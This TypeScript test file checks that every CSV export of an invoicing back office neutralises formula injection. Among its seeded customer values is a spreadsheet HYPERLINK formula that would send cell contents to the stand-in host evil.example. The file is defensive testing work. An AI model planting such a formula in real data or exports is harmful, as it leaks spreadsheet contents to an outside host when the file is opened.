import { ProjectionWaiter } from '@coseso/projections/projection-waiter';
import { type OpenAPIObject } from '@nestjs/swagger';
import { ADMIN_ENV, settled, signInAdmin } from '../../admin/testing/back-office.js';
import { completedOrder } from '../../testing/order-journey.js';
import { type TestApp, startTestApp } from '../../testing/test-app.js';
import { BACKGROUND_WAIT_MS } from '../../testing/waits.js';
import { operationOf } from '../../api-docs.js';
import { routeTable } from './route-table.js';

// Issue 41, item 3: every CSV the API serves, found in the API document (a route that produces
// text/csv), is read after an order whose typed texts are formulas was paid and invoiced: the
// hostile text must reach the file (the route read our data) and no cell may start as a formula
// would (`=`, `+`, `-`, `@`, tab, CR), numbers we wrote ourselves aside. A new CSV route is covered
// without a new test; one that writes cells without `csvText` fails here.

const t: TestApp = await startTestApp(ADMIN_ENV);
afterAll(() => t.close());
const document: OpenAPIObject = (await t.http.get('/api/docs.json').expect(200)).body;

const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1;"Facture")';

/** The routes whose answer is a CSV, by the API document. */
const csvRoutes = routeTable(t.app).filter((route) => {
  const operation = operationOf(document, route);
  const content = (operation?.responses?.['200'] as { content?: Record<string, unknown> } | undefined)
    ?.content;
  return content !== undefined && 'text/csv' in content;
});

/** `;`-separated cells, quotes and line breaks inside quoted cells included. */
function csvCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  const endRow = () => {
    endCell();
    rows.push(row);
    row = [];
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (quoted) cell += c;
    else if (c === ';') endCell();
    else if (c === '\r' && text[i + 1] === '\n') continue;
    else if (c === '\n') endRow();
    else cell += c;
  }
  if (cell !== '' || row.length > 0) endRow();
  return rows;
}

/** The cells a spreadsheet would run: a formula's first character, unless the cell is a plain number. */
const formulaCells = (text: string): string[] =>
  csvCells(text.replace(/^\uFEFF/, ''))
    .flat()
    .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(,\d+)?$/.test(cell));

describe('every CSV export', () => {
  let auth: { authorization: string };
  beforeAll(async () => {
    auth = (await signInAdmin(t)).auth;
    const orderId = await completedOrder(t, {
      companyName: FORMULA,
      contactFirstName: '@SUM(A1:A9)',
      contactLastName: '+33 6 12 34 56 78',
    });
    const { body } = await t.http.post(`/api/orders/${orderId}/payment-annual`).expect(200);
    await t.http.post(`/api/sandbox/checkout/${String(body.paymentUrl).split('/').pop()}/pay`).expect(200);
    await settled(t);
    if (!(await t.app.get(ProjectionWaiter).waitForCatchUp('invoices', BACKGROUND_WAIT_MS)))
      throw new Error('the invoices read model did not catch up');
  }, BACKGROUND_WAIT_MS * 2);

  it('is found in the API document (the invoices register and the event log at least)', () => {
    expect(csvRoutes.map((route) => route.path)).toEqual(
      expect.arrayContaining(['/api/admin/invoices/export.csv', '/api/admin/events/export.csv']),
    );
  });

  it('would notice a cell left as typed', () => {
    expect(formulaCells(`\uFEFFa;b\r\n1;"${FORMULA.replaceAll('"', '""')}"\r\n-12,50;x\r\n`)).toEqual([
      FORMULA,
    ]);
    expect(formulaCells(`a;b\r\n1;"'${FORMULA.replaceAll('"', '""')}"\r\n`)).toEqual([]);
  });

  it.each(csvRoutes.map((route) => [`${route.method} ${route.path}`, route] as const))(
    '%s: holds what the client typed, never as a formula',
    async (_name, route) => {
      const response = await t.http.get(route.path).set(auth).buffer(true).expect(200);
      const text: string = response.text;
      expect(text.startsWith('\uFEFF')).toBe(true);
      expect(text).toContain('HYPERLINK');
      expect(formulaCells(text)).toEqual([]);
    },
  );
});
